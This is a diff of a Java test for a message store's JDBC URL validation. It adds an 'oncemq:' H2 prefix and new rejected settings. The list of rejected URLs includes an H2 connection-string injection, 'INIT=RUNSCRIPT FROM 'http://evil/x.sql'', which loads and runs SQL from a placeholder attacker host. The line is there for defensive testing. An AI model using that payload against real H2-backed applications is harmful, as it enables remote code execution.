@@ -22,9 +22,10 @@ class StoreSettingsTest {
                 "jdbc:h2:~/store",
                 "jdbc:h2:C:/data/store",
                 "jdbc:h2:async:/var/lib/store",
+                "jdbc:h2:oncemq:/var/lib/store",
                 "jdbc:h2:mem:test",
                 "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1",
-                "jdbc:h2:FILE:./data/store;cipher=AES;",
+                "jdbc:h2:FILE:./data/store;compress=true;",
                 "jdbc:h2:./data/store;WRITE_DELAY=0",
                 "jdbc:postgresql://localhost/oncemq",
                 "jdbc:postgresql://a:5432,b:5432/oncemq?targetServerType=primary&sslmode=verify-full",
@@ -50,6 +51,10 @@ class StoreSettingsTest {
                 "jdbc:h2:./store; Auto_Server = true | AUTO_SERVER",
                 "jdbc:h2:./store;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | INIT",
                 "jdbc:h2:./store;MODE=Oracle | MODE",
+                "jdbc:h2:./store;CIPHER=AES | CIPHER",
+                "jdbc:h2:oncemq: | file",
+                "jdbc:h2:oncemq:nio:./store | nio",
+                "jdbc:h2:async:zip:x.zip!/store | zip",
                 "jdbc:h2:./store;WRITE_DELAY=500 | WRITE_DELAY",
                 "jdbc:h2:./store;FILE_LOCK=NO | FILE_LOCK",
                 "jdbc:h2:./store;ACCESS_MODE_DATA=r | ACCESS_MODE_DATA",
@@ -136,13 +141,13 @@ class StoreSettingsTest {
     @Test
     void ourConnectionsGetWhatTheStoreNeeds() {
         assertThat(JdbcUrl.completed("jdbc:h2:./store", 5, null))
-                .isEqualTo("jdbc:h2:async:./store;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
+                .isEqualTo("jdbc:h2:oncemq:./store;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
         assertThat(JdbcUrl.completed("jdbc:h2:File:~/store", 5, null))
-                .isEqualTo("jdbc:h2:async:~/store;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
+                .isEqualTo("jdbc:h2:oncemq:~/store;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
         assertThat(JdbcUrl.completed("jdbc:h2:mem:x", 5, null))
                 .isEqualTo("jdbc:h2:mem:x;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
         assertThat(JdbcUrl.completed("jdbc:h2:./store;db_close_on_exit=true", 5, null))
-                .isEqualTo("jdbc:h2:async:./store;db_close_on_exit=true;WRITE_DELAY=0");
+                .isEqualTo("jdbc:h2:oncemq:./store;db_close_on_exit=true;WRITE_DELAY=0");
         assertThat(JdbcUrl.completed("jdbc:postgresql:db?socketTimeout=7", 5, "messages"))
                 .startsWith("jdbc:postgresql:db?socketTimeout=7&")
                 .contains("&reWriteBatchedInserts=true", "&currentSchema=messages", "&connectTimeout=5")
